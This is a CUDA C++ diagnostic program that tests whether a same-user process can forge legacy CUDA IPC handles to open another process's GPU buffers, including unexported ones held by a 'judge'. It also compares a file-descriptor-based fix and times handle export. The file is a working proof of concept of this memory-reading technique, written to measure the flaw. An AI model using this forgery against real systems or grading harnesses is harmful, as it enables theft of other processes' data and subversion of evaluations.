// Issue 40 item 3 diagnostic: which GPU memory of another process a forged legacy CUDA IPC handle opens.
// An owner process holds four 32 MiB buffers, each filled with its own byte: 0xA1 exported with
// cudaIpcGetMemHandle and its handle given to the attacker (the control), 0xA5 exported but its
// handle given to nobody (what crl's reference worker and program workers export), 0xB2 never
// exported (what the judge holds), 0xC3 a VMM allocation shareable only as a POSIX file descriptor
// (the fix in view). The attacker, a fresh process of the same user, forges handles from two of its
// own (the pid word swapped for the owner's, the bytes that differ between its handles stepped)
// and counts what each opened handle's memory holds. Prints one JSON object.
#include <cuda.h>
#include <cuda_runtime.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <map>
#include <string>
#include <thread>
#include <vector>

namespace {
constexpr size_t kBytes = 32u << 20;

void check(cudaError_t e, const char* what) {
  if (e != cudaSuccess) { std::fprintf(stderr, "%s: %s\n", what, cudaGetErrorString(e)); std::exit(3); }
}
void check(CUresult r, const char* what) {
  if (r != CUDA_SUCCESS) { const char* s = nullptr; cuGetErrorString(r, &s); std::fprintf(stderr, "%s: %s\n", what, s ? s : "?"); std::exit(3); }
}

void* filled_buffer(unsigned char byte) {
  void* p = nullptr;
  check(cudaMalloc(&p, kBytes), "cudaMalloc");
  check(cudaMemset(p, byte, kBytes), "cudaMemset");
  return p;
}

void* vmm_buffer(unsigned char byte, int* fd) {
  CUmemAllocationProp prop{};
  prop.type = CU_MEM_ALLOCATION_TYPE_PINNED;
  prop.location.type = CU_MEM_LOCATION_TYPE_DEVICE;
  prop.location.id = 0;
  prop.requestedHandleTypes = CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR;
  size_t granularity = 0;
  check(cuMemGetAllocationGranularity(&granularity, &prop, CU_MEM_ALLOC_GRANULARITY_MINIMUM), "granularity");
  const size_t size = (kBytes + granularity - 1) / granularity * granularity;
  CUmemGenericAllocationHandle handle;
  check(cuMemCreate(&handle, size, &prop, 0), "cuMemCreate");
  CUdeviceptr address = 0;
  check(cuMemAddressReserve(&address, size, 0, 0, 0), "cuMemAddressReserve");
  check(cuMemMap(address, size, 0, handle, 0), "cuMemMap");
  CUmemAccessDesc access{};
  access.location = prop.location;
  access.flags = CU_MEM_ACCESS_FLAGS_PROT_READWRITE;
  check(cuMemSetAccess(address, size, &access, 1), "cuMemSetAccess");
  check(cuMemExportToShareableHandle(fd, handle, CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR, 0), "export fd");
  check(cudaMemset(reinterpret_cast<void*>(address), byte, kBytes), "cudaMemset vmm");
  return reinterpret_cast<void*>(address);
}

std::string hex(const void* p, size_t n) {
  std::string s;
  char b[3];
  for (size_t i = 0; i < n; ++i) { std::snprintf(b, 3, "%02x", static_cast<const unsigned char*>(p)[i]); s += b; }
  return s;
}

int owner(const std::string& dir, pid_t attacker) {
  check(cudaSetDevice(0), "cudaSetDevice");
  void* given = filled_buffer(0xA1);
  void* exported = filled_buffer(0xA5);
  void* kept = filled_buffer(0xB2);
  int fd = -1;
  void* vmm = vmm_buffer(0xC3, &fd);
  cudaIpcMemHandle_t h_given, h_exported;
  check(cudaIpcGetMemHandle(&h_given, given), "export given");
  check(cudaIpcGetMemHandle(&h_exported, exported), "export exported");
  check(cudaDeviceSynchronize(), "sync");
  std::ofstream(dir + "/given.hex") << hex(&h_given, sizeof h_given);
  std::ofstream(dir + "/ready") << getpid();
  int status = 0;
  waitpid(attacker, &status, 0);
  (void)kept; (void)vmm;
  close(fd);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 4;
}

int attacker(const std::string& dir) {
  while (access((dir + "/ready").c_str(), F_OK) != 0) std::this_thread::sleep_for(std::chrono::milliseconds(20));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  pid_t owner_pid = 0;
  std::ifstream(dir + "/ready") >> owner_pid;
  std::string given_hex;
  std::ifstream(dir + "/given.hex") >> given_hex;
  check(cudaSetDevice(0), "cudaSetDevice");
  void* own1 = filled_buffer(0xD1);
  void* own2 = filled_buffer(0xD2);
  cudaIpcMemHandle_t h1, h2, given;
  check(cudaIpcGetMemHandle(&h1, own1), "own export 1");
  check(cudaIpcGetMemHandle(&h2, own2), "own export 2");
  for (size_t i = 0; i < sizeof given; ++i) reinterpret_cast<unsigned char*>(&given)[i] = static_cast<unsigned char>(std::stoul(given_hex.substr(2 * i, 2), nullptr, 16));

  std::map<std::string, int> opened;  // what the opened memory holds -> count
  int tries = 0, opens = 0;
  auto classify = [](unsigned char b) -> std::string {
    switch (b) {
      case 0xA1: return "owner_given";
      case 0xA5: return "owner_exported_not_given";
      case 0xB2: return "owner_never_exported";
      case 0xC3: return "owner_vmm_fd";
      case 0xD1: case 0xD2: return "own";
      default: return "other";
    }
  };
  auto attempt = [&](const cudaIpcMemHandle_t& h) -> std::string {
    ++tries;
    void* p = nullptr;
    if (cudaIpcOpenMemHandle(&p, h, cudaIpcMemLazyEnablePeerAccess) != cudaSuccess) { cudaGetLastError(); return ""; }
    ++opens;
    unsigned char b = 0;
    std::string what = cudaMemcpy(&b, p, 1, cudaMemcpyDeviceToHost) == cudaSuccess ? classify(b) : "unreadable";
    cudaGetLastError();
    cudaIpcCloseMemHandle(p);
    ++opened[what];
    return what;
  };
  const std::string control = attempt(given);

  // Where the handles differ, and where this process's pid sits in them.
  std::vector<size_t> differ;
  for (size_t i = 0; i < sizeof h1; ++i) if (reinterpret_cast<unsigned char*>(&h1)[i] != reinterpret_cast<unsigned char*>(&h2)[i]) differ.push_back(i);
  const uint32_t me = static_cast<uint32_t>(getpid());
  long pid_at = -1;
  for (size_t i = 0; i + 4 <= sizeof h1; ++i) if (std::memcmp(reinterpret_cast<char*>(&h1) + i, &me, 4) == 0) pid_at = static_cast<long>(i);
  // Each handle `from` with one of the bytes where the attacker's own handles differ stepped by -64..64.
  auto step_allocation_bytes = [&](const cudaIpcMemHandle_t& from, std::map<std::string, int>* tally) {
    for (size_t d : differ) {
      for (int delta = -64; delta <= 64; ++delta) {
        if (delta == 0) continue;
        cudaIpcMemHandle_t f = from;
        auto* bytes = reinterpret_cast<unsigned char*>(&f);
        bytes[d] = static_cast<unsigned char>(bytes[d] + delta);
        const std::string what = attempt(f);
        if (tally != nullptr && !what.empty()) ++(*tally)[what];
      }
    }
  };
  for (const cudaIpcMemHandle_t* base : {&h1, &h2}) {
    for (int swap_pid = 0; swap_pid < 2; ++swap_pid) {
      cudaIpcMemHandle_t h = *base;
      if (swap_pid) {
        if (pid_at < 0) continue;
        std::memcpy(reinterpret_cast<char*>(&h) + pid_at, &owner_pid, 4);
      }
      step_allocation_bytes(h, nullptr);
    }
  }
  // What exporting costs (crl's workers export their outputs' allocations inside the timed window):
  // the first cudaIpcGetMemHandle of a fresh allocation, then again on one already exported.
  double first_export_us = 0, again_export_us = 0;
  {
    std::vector<void*> fresh;
    for (int i = 0; i < 8; ++i) fresh.push_back(filled_buffer(0xEE));
    cudaIpcMemHandle_t h;
    auto t0 = std::chrono::steady_clock::now();
    for (void* p : fresh) cudaIpcGetMemHandle(&h, p);
    first_export_us = std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - t0).count() / fresh.size();
    t0 = std::chrono::steady_clock::now();
    for (int i = 0; i < 1000; ++i) cudaIpcGetMemHandle(&h, fresh[i % fresh.size()]);
    again_export_us = std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - t0).count() / 1000;
    for (void* p : fresh) cudaFree(p);
  }
  // The handle of the owner's that it was given, stepped where the attacker's own two handles differ:
  // what a process that learnt one handle of another's (or guessed the bytes that name that process)
  // opens of that process's other allocations, exported or not.
  std::map<std::string, int> from_given;
  step_allocation_bytes(given, &from_given);
  std::printf("{\"handle_given\": \"%s\", \"handle_own_1\": \"%s\", \"handle_own_2\": \"%s\", \"from_given\": {",
              hex(&given, sizeof given).c_str(), hex(&h1, sizeof h1).c_str(), hex(&h2, sizeof h2).c_str());
  bool first_given = true;
  for (const auto& [k, v] : from_given) { std::printf("%s\"%s\": %d", first_given ? "" : ", ", k.c_str(), v); first_given = false; }
  std::printf("}, ");
  std::printf("\"first_export_us\": %.2f, \"again_export_us\": %.3f, ", first_export_us, again_export_us);
  std::printf("\"control_given_handle\": \"%s\", \"handle_bytes_differing\": %zu, \"pid_offset\": %ld, \"tries\": %d, \"opened\": %d, \"by_content\": {",
              control.c_str(), differ.size(), pid_at, tries, opens);
  bool first = true;
  for (const auto& [k, v] : opened) { std::printf("%s\"%s\": %d", first ? "" : ", ", k.c_str(), v); first = false; }
  std::printf("}}\n");
  return 0;
}
}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::string(argv[1]) == "attack") return attacker(argv[2]);
  char dir_template[] = "/tmp/ipc_forgery.XXXXXX";
  const std::string dir = mkdtemp(dir_template);
  const pid_t child = fork();  // before CUDA starts in this process
  if (child == 0) {
    execl("/proc/self/exe", argv[0], "attack", dir.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  return owner(dir, child);
}
